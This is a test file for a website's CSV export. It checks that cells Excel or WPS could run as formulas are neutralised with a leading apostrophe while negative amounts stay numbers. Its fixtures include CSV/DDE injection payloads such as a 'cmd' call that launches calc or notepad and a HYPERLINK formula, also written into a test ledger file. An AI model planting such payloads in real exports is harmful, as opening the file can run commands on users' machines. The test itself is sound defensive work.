/**
 * Every CSV the site writes is safe to open in Excel and WPS: a cell that could run as a formula
 * is neutralised by one rule (neutraliseCell), in the subtotal downloads (toCsv) and the ledger
 * downloads (ledgerCsv, and the files the loader writes); a plain signed number stays a number.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { isNeutralised, neutraliseCell, toCsv } from '../../../src/lib/ledger/csv-export.ts';
import { errorLines } from '../../../src/lib/dataset/summary.ts';
import { ledgerCsv } from '../../../src/lib/ledger/csv.ts';
import { ledgerCsvFile } from '../../../src/lib/ledger/ledger.ts';
import { loadSite } from '../../../src/lib/pipeline/site.ts';
import { makeCaseRoot, PROJECT_DIR } from '../../corpus/corpus.ts';

const work = mkdtempSync(join(tmpdir(), 'xinfang-csv-export-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

const FORMULAS = [
  ['a DDE payload after a minus sign', "-1+cmd|' /C calc'!A0"],
  ['an equals sign', '=1+1'],
  ['HYPERLINK', '=HYPERLINK("http://example.invalid/?q="&A1,"点击")'],
  ['an at sign', '@SUM(1)'],
  ['a plus sign', '+cmd|" /C notepad"!A0'],
  ['a plus sign before a sum', '+1+1'],
  ['a minus sign before a sum', '-1+1'],
  ['a tab', '\t=1+1'],
  ['a carriage return', '\r=1+1'],
  ['a lone tab', '\tx'],
  ['leading spaces', '  =1+1'],
  ['a leading ideographic space', '\u3000=1+1'],
  ['a leading line break', '\n=1+1'],
  ['a full-width equals sign', '＝1+1'],
  ['a full-width plus sign', '＋1+1'],
  ['a full-width minus sign', '－1+1'],
  ['a full-width at sign', '＠SUM(1)'],
  ['a minus sign alone', '-'],
  ['an exponent', '-1e5'],
  ['a double minus', '--1'],
] as const;

const KEPT = [
  ['a negative amount', '-1200.50'],
  ['a negative amount with separators', '-1,200.50'],
  ['a negative integer', '-3'],
  ['a signed positive number', '+5'],
  ['an amount', '12,345.60'],
  ['a case number', 'XF2024-0001'],
  ['a date', '2024-01-05'],
  ['a masked name', '罗某厚'],
  ['a note with a formula inside', '已拨付=1000元'],
  ['a blank cell', ''],
] as const;

describe('neutraliseCell(cell)', () => {
  it.each(FORMULAS)('neutralises %s', (_, cell) => {
    expect(neutraliseCell(cell)).toBe(`'${cell}`);
    expect(isNeutralised(cell)).toBe(true);
  });

  it.each(KEPT)('keeps %s', (_, cell) => {
    expect(neutraliseCell(cell)).toBe(cell);
  });
});

describe('toCsv(columns, rows) and ledgerCsv(columns, rows)', () => {
  it.each(FORMULAS)('quote the neutralised cell for %s, and agree', (_, cell) => {
    const rows = [['A01', cell]];
    const written = toCsv(['案件编号', '备注'], rows);
    expect(written).toContain(`"'${cell.replace(/"/g, '""')}"`);
    expect(Papa.parse<string[]>(written.slice(1), { skipEmptyLines: true }).data[1]).toEqual([
      'A01',
      `'${cell}`,
    ]);
    expect(ledgerCsv(['案件编号', '备注'], rows)).toBe(written);
  });

  it('write a plain signed number as it is, unquoted', () => {
    expect(toCsv(['a', 'b'], [['-1200.50', '-3']])).toBe('\uFEFFa,b\r\n-1200.50,-3\r\n');
    expect(ledgerCsv(['a', 'b'], [['-1200.50', '-3']])).toBe('\uFEFFa,b\r\n-1200.50,-3\r\n');
  });
});

describe('the ledger downloads the loader writes', () => {
  it('neutralise formula notes and keep a negative amount (冲减) a number', async () => {
    const root = makeCaseRoot(join(work, 'formulas'));
    const cases = join(root, PROJECT_DIR, 'cases.csv');
    const notes = ["-1+cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid","x")', '@SUM(1)'];
    const text = readFileSync(cases, 'utf8')
      .replace('正在协调', Papa.unparse([[notes[0] ?? '']]))
      .replace('"分两期拨付, 第二期已到位"', Papa.unparse([[notes[1] ?? '']]))
      .replace('满意,\n', `满意,${notes[2] ?? ''}\n`);
    writeFileSync(cases, text);
    // 备注 and 用途 are published only when project.yaml lists them.
    const facts = join(root, 'content/2024/demo/project.yaml');
    writeFileSync(facts, `${readFileSync(facts, 'utf8').trimEnd()}\n公开列: [备注, 用途]\n`);
    const spending = join(root, PROJECT_DIR, 'spending.csv');
    writeFileSync(
      spending,
      `${readFileSync(spending, 'utf8').trimEnd()}\nP04,2024-06-02,A03,本年财政拨款,-200.00,冲减,\nP05,2024-06-03,A03,本年财政拨款,200.00,补偿安置,\n`,
    );
    const site = await loadSite({ root, ledgerDir: join(root, 'ledgers') });
    expect(errorLines(site.problems)).toEqual([]);
    const ledger = site.projectYears[0]?.ledger;
    if (!ledger) throw new Error('no ledger');

    const casesCsv = readFileSync(ledgerCsvFile(ledger, 'cases'), 'utf8');
    const rows = Papa.parse<string[]>(casesCsv.slice(1), { skipEmptyLines: true }).data;
    const note = rows[0]?.indexOf('备注') ?? -1;
    expect(note).toBeGreaterThan(0);
    // A01 carries the third note, A02 the first, A03 the second.
    expect(rows.slice(1).map((r) => r[note])).toEqual(
      [notes[2], notes[0], notes[1]].map((n) => `'${n ?? ''}`),
    );
    for (const n of notes) expect(casesCsv).toContain(`"'${n.replace(/"/g, '""')}"`);

    const paymentsCsv = readFileSync(ledgerCsvFile(ledger, 'payments'), 'utf8');
    expect(paymentsCsv).toContain(',-200.00,冲减\r\n');
    expect(paymentsCsv).not.toContain("'-200.00");
  });
});

describe('toCsv(columns, rows)', () => {
  it('starts with a BOM, ends lines with CRLF, and quotes commas, quotes and line breaks', () => {
    const csv = toCsv(['案件编号', '备注'], [['A,1', '说"明"\n第二行']]);
    expect(csv.startsWith('\uFEFF案件编号,备注\r\n')).toBe(true);
    expect(Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data).toEqual([
      ['案件编号', '备注'],
      ['A,1', '说"明"\n第二行'],
    ]);
  });

  it('neutralises cells Excel would run as formulas but keeps negative amounts', () => {
    const csv = toCsv(['a', 'b', 'c'], [['=1+1', '@SUM(A1)', '-1,234.00']]);
    expect(csv).toContain('"\'=1+1","\'@SUM(A1)","-1,234.00"');
  });
});
